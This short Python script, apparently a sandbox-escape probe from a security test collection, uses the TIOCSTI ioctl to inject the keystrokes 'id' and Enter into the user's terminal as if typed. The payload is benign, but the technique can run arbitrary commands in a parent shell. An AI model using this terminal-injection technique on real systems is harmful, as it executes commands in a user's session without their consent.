"""Characters are pushed into the terminal of the user, as if they had been typed."""

import fcntl
import termios

from attack import tries

with tries():
    for character in b"id\n":
        fcntl.ioctl(0, termios.TIOCSTI, bytes([character]))
